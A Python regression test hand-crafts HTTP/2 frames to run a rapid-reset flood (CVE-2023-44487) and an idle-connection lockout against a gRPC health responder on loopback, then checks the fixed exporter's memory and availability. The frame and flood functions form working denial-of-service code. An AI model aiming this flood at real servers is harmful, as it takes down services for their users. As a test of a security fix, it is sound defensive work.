#!/usr/bin/env python3
"""Attacks on the gRPC health responder (issue 21, kinds 1 and 2), on loopback, against a real
exporter that runs only the responder. HTTP/2 is written by hand (RFC 9113 frames, RFC 7541
HPACK without Huffman coding); nothing here is sent beyond 127.0.0.0/8.

1. Rapid reset (CVE-2023-44487), twice 10 s: from 8 connections of one source (127.0.1.1),
   then from 8 sources with one connection each (127.0.2.1-8). Each connection sends HEADERS
   immediately followed by RST_STREAM as compactly as HTTP/2 allows (its first HEADERS adds
   the six request fields to the HPACK table, every later one names them by index: 28 bytes a
   stream) and, when cut or refused, connects again 10 ms later. Meanwhile a legitimate
   client (127.0.0.1) keeps one connection and calls grpc.health.v1.Health/Check every 100 ms.
   Checked: VmRSS (/proc/PID/status, every 0.25 s) within +32 MiB of the baseline during and
   after each flood; at least 90 % of the legitimate checks answered SERVING during it, every
   one after it.
2. Lockout: 40 sources (127.0.3.1-40) x 8 idle HTTP/2 connections (preface and SETTINGS, then
   silence), more than the 256 slots; then a new client (127.0.0.1) must get SERVING, and the
   source that lost a connection to it must not get it back at once.
The figures (RSS, checks answered, latency, connections refused and closed by reason) are
printed. Before the fix, each flood grew RSS past +256 MiB within a second (where this test stops
it; 800-960 MB two seconds later, from calls gRPC had already read), 2 of 3 and 4 of 5 checks
answered; in the lockout every new connection was reset.
Usage: attack_grpc_test.py --exporter BIN
"""
import argparse
import multiprocessing
import os
import shutil
import socket
import struct
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import labkit  # noqa: E402  (check, summary, parse_metrics, start_exporter, stop)

FLOOD_SECONDS = 10
RSS_LIMIT_MIB = 32      # the target: RSS within this of the baseline
RSS_ABORT_MIB = 256     # a flood that grows RSS this much is stopped early (the old code)
CHECK_EVERY = 0.1       # the legitimate client's call interval (s)

# HTTP/2 (RFC 9113): frame types, flags, the client connection preface.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8
REQUEST = [(b":method", b"POST"), (b":scheme", b"http"),
           (b":path", b"/grpc.health.v1.Health/Check"), (b":authority", b"podnet"),
           (b"content-type", b"application/grpc"), (b"te", b"trailers")]
SERVING = b"\x00\x00\x00\x00\x02\x08\x01"  # gRPC message: HealthCheckResponse{status: SERVING}


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack("!I", stream) + payload


def literal(name, value, index=False):
    """An HPACK literal field with a new name, no Huffman (RFC 7541 6.2.1, 6.2.2): added to the
    dynamic table with `index`, else not."""
    return bytes([0x40 if index else 0x00, len(name)]) + name + bytes([len(value)]) + value


REQUEST_BLOCK = b"".join(literal(n, v) for n, v in REQUEST)
# The compact flood: the first block indexes the six fields (they take dynamic indices 62..67,
# newest first), every later one refers to them, one byte each.
FLOOD_FIRST_BLOCK = b"".join(literal(n, v, index=True) for n, v in REQUEST)
FLOOD_BLOCK = bytes(0x80 | (62 + len(REQUEST) - 1 - i) for i in range(len(REQUEST)))


def rapid_resets(first_stream, count, first):
    out = bytearray()
    for k in range(count):
        stream = first_stream + 2 * k
        block = FLOOD_FIRST_BLOCK if first and k == 0 else FLOOD_BLOCK
        out += frame(HEADERS, END_HEADERS, stream, block)
        out += frame(RST_STREAM, 0, stream, struct.pack("!I", CANCEL))
    return bytes(out)


def connect(port, source, timeout=2.0):
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    return s


class HealthClient:
    """One HTTP/2 connection that calls grpc.health.v1.Health/Check (empty service name) the
    way a gRPC client does: HEADERS, then DATA with an empty message and END_STREAM."""

    def __init__(self, port, source="127.0.0.1", timeout=2.0):
        self.s = connect(port, source, timeout)
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.buf, self.stream = b"", 1

    def _frame(self):
        while True:
            if len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) >= 9 + length:
                    kind, flags = self.buf[3], self.buf[4]
                    stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                    payload, self.buf = self.buf[9:9 + length], self.buf[9 + length:]
                    return kind, flags, stream, payload
            data = self.s.recv(65536)
            if not data:
                raise ConnectionError("closed by the server")
            self.buf += data

    def check(self):
        """True when answered SERVING; raises OSError when the connection fails."""
        stream, self.stream = self.stream, self.stream + 2
        self.s.sendall(frame(HEADERS, END_HEADERS, stream, REQUEST_BLOCK) +
                       frame(DATA, END_STREAM, stream, b"\x00" * 5))
        serving = False
        while True:
            kind, flags, sid, payload = self._frame()
            if kind == SETTINGS and not flags & ACK:
                self.s.sendall(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.s.sendall(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY:
                raise ConnectionError("GOAWAY")
            elif sid == stream and kind == RST_STREAM:
                return False
            elif sid == stream and kind == DATA:
                serving = serving or payload == SERVING
            if sid == stream and flags & END_STREAM and kind in (HEADERS, DATA):
                return serving

    def close(self):
        self.s.close()


def flood_connection(port, source, deadline, stats):
    """One attacking connection slot: rapid resets until `deadline`, connecting again 10 ms
    after each cut or refusal."""
    while time.time() < deadline:
        try:
            s = connect(port, source)
            stats["connects"] += 1
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            stream, first = 1, True
            while time.time() < deadline:
                s.sendall(rapid_resets(stream, 64, first))
                stats["streams_written"] += 64
                stream, first = stream + 128, False
            s.close()
        except OSError:
            stats["cut"] += 1
            time.sleep(0.01)


def flood_process(port, sources, per_source, seconds, out):
    deadline = time.time() + seconds
    stats = {"connects": 0, "streams_written": 0, "cut": 0}
    threads = [threading.Thread(target=flood_connection, args=(port, src, deadline, stats))
               for src in sources for _ in range(per_source)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    out.put(stats)


class Exporter:
    def __init__(self, exe, tmp, name):
        self.grpc = labkit.free_port()
        self.p, self.http = labkit.start_exporter(
            exe, tmp, "listen_address: \"127.0.0.1:{port}\"\nself: { name: attack, node: n }\n"
            "responders:\n  udp_echo: { listen_address: \"127.0.0.1:{port}\" }\n"
            "  grpc: { listen_address: \"127.0.0.1:%d\" }\n" % self.grpc, name=name)

    def rss_mib(self):
        with open("/proc/%d/status" % self.p.pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024.0
        raise RuntimeError("no VmRSS")

    def metrics(self):
        return labkit.parse_metrics(labkit.scrape(self.http, timeout=5))

    def dropped(self):
        """podnet_responder_dropped_total{responder="grpc"} by reason."""
        return {l["reason"]: v for n, l, v in self.metrics()
                if n == "podnet_responder_dropped_total" and l.get("responder") == "grpc"}

    def stop(self):
        """SIGTERM (SIGKILL after 15 s): the exit status."""
        return labkit.stop(self.p, grace=15)


def legit_checks(port, stop, results):
    """Check every CHECK_EVERY s on one kept connection (a new one only if it fails), until
    `stop` is set: results gets (answered SERVING, seconds) per call."""
    client = None
    while not stop.is_set():
        t0 = time.monotonic()
        try:
            client = client or HealthClient(port)
            ok = client.check()
        except OSError:
            ok = False
            if client:
                client.close()
            client = None
        results.append((ok, time.monotonic() - t0))
        stop.wait(max(0.0, CHECK_EVERY - (time.monotonic() - t0)))
    if client:
        client.close()


def rapid_reset(ex, name, sources, per_source):
    before = ex.dropped()
    base = ex.rss_mib()
    stop, during, samples = threading.Event(), [], []
    checker = threading.Thread(target=legit_checks, args=(ex.grpc, stop, during))
    checker.start()
    spawn = multiprocessing.get_context("spawn")  # not fork: this process has threads
    out = spawn.Queue()
    flood = spawn.Process(target=flood_process,
                                    args=(ex.grpc, sources, per_source, FLOOD_SECONDS, out))
    flood.start()
    while flood.is_alive():
        samples.append(ex.rss_mib())
        if samples[-1] - base > RSS_ABORT_MIB:
            flood.terminate()
            break
        time.sleep(0.25)
    flood.join(timeout=FLOOD_SECONDS + 10)
    stats = out.get(timeout=5) if not out.empty() else {}
    stop.set()
    checker.join(timeout=10)
    time.sleep(2)
    after = ex.rss_mib()
    follow = []
    stop.clear()
    checker = threading.Thread(target=legit_checks, args=(ex.grpc, stop, follow))
    checker.start()
    time.sleep(10 * CHECK_EVERY)
    stop.set()
    checker.join(timeout=10)
    dropped = {k: v - before.get(k, 0) for k, v in ex.dropped().items()
               if v - before.get(k, 0) > 0}
    answered = sum(ok for ok, _ in during)
    labkit.log("%s: flood %s; RSS %.1f MiB -> max %.1f, after %.1f MiB; legitimate checks "
               "answered %d/%d during (p50 %.1f ms, p99 %.1f ms), %d/%d after; dropped %s"
               % (name, stats, base, max(samples, default=base), after, answered, len(during),
                  1e3 * labkit.percentile([t for _, t in during], 50),
                  1e3 * labkit.percentile([t for _, t in during], 99),
                  sum(ok for ok, _ in follow), len(follow), dropped))
    labkit.check(max(samples, default=base) - base <= RSS_LIMIT_MIB,
                 "%s: RSS during within +%d MiB of %.1f MiB (max %.1f)"
                 % (name, RSS_LIMIT_MIB, base, max(samples, default=base)))
    labkit.check(after - base <= RSS_LIMIT_MIB, "%s: RSS after within +%d MiB (%.1f)"
                 % (name, RSS_LIMIT_MIB, after))
    labkit.check(during and answered >= 0.9 * len(during),
                 "%s: >= 90 %% of the legitimate checks answered during (%d/%d)"
                 % (name, answered, len(during)))
    labkit.check(all(ok for ok, _ in follow), "%s: every check answered after" % name)
    labkit.check(stats.get("streams_written", 0) > 0 and dropped.get("input_budget", 0) > 0,
                 "%s: the flood was sent (%d streams written) and cut for its input (%d times)"
                 % (name, stats.get("streams_written", 0), dropped.get("input_budget", 0)))


def lockout(ex):
    before = ex.dropped()
    sources = ["127.0.3.%d" % i for i in range(1, 41)]
    held = []
    for src in sources:
        for _ in range(8):
            try:
                s = connect(ex.grpc, src)
                s.sendall(PREFACE + frame(SETTINGS, 0, 0))
                held.append((src, s))
            except OSError:
                pass  # reset over a limit
    time.sleep(0.5)
    alive = [(src, s) for src, s in held if still_open(s)]
    labkit.log("lockout: %d connections from 40 sources connected, %d still open"
               % (len(held), len(alive)))
    ok = False
    try:
        client = HealthClient(ex.grpc)
        ok = client.check()
    except OSError as e:
        labkit.log("lockout: the new client failed: %r" % e)
        client = None
    labkit.check(ok, "lockout: a new client got SERVING with every slot taken")
    time.sleep(0.3)
    lost = [(src, s) for src, s in alive if not still_open(s)]
    back = False
    if lost:
        try:
            s = connect(ex.grpc, lost[0][0])
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            time.sleep(0.3)
            back = still_open(s)
            s.close()
        except OSError:
            back = False
    labkit.check(len(lost) >= 1 and not back,
                 "lockout: %d attacking connection(s) evicted; the source that lost one (%s) "
                 "cannot take a slot back at once" % (len(lost), lost[0][0] if lost else "-"))
    if client:
        try:
            labkit.check(client.check(), "lockout: the new client is still answered")
        except OSError as e:
            labkit.check(False, "lockout: the new client is still answered (%r)" % e)
        client.close()
    dropped = {k: v - before.get(k, 0) for k, v in ex.dropped().items()
               if v - before.get(k, 0) > 0}
    labkit.log("lockout: dropped %s" % dropped)
    for _, s in held:
        s.close()


def still_open(s):
    """Whether the server has neither closed nor reset `s` (what it sent is read and dropped)."""
    s.setblocking(False)
    try:
        for _ in range(100):
            if not s.recv(65536):
                return False
        return True
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        s.setblocking(True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--exporter", required=True)
    a = ap.parse_args()
    tmp = tempfile.mkdtemp(prefix="podnet-attack-grpc-")
    phases = [("rapid reset, 1 source x 8 connections",
               lambda ex, name: rapid_reset(ex, name, ["127.0.1.1"], 8)),
              ("rapid reset, 8 sources x 1 connection",
               lambda ex, name: rapid_reset(ex, name, ["127.0.2.%d" % i for i in range(1, 9)], 1)),
              ("lockout", lambda ex, name: lockout(ex))]
    for i, (name, phase) in enumerate(phases):
        # An exporter of its own per phase: what one attack did to it is not the next's baseline.
        ex = Exporter(a.exporter, tmp, "phase%d" % i)
        try:
            warm = HealthClient(ex.grpc)
            for _ in range(20):
                warm.check()
            warm.close()
            phase(ex, name)
        except Exception as e:  # noqa: BLE001  (an error is a failed check, with the log kept)
            labkit.check(False, "%s: no error: %r" % (name, e))
        finally:
            rc = ex.stop()
            labkit.check(rc == 0, "%s: SIGTERM, exit 0 (%s)" % (name, rc))
    labkit.log(labkit.summary())
    if labkit.failures:
        labkit.log("exporter logs: %s" % tmp)
    else:
        shutil.rmtree(tmp, ignore_errors=True)
    return 1 if labkit.failures else 0


if __name__ == "__main__":
    sys.exit(main())
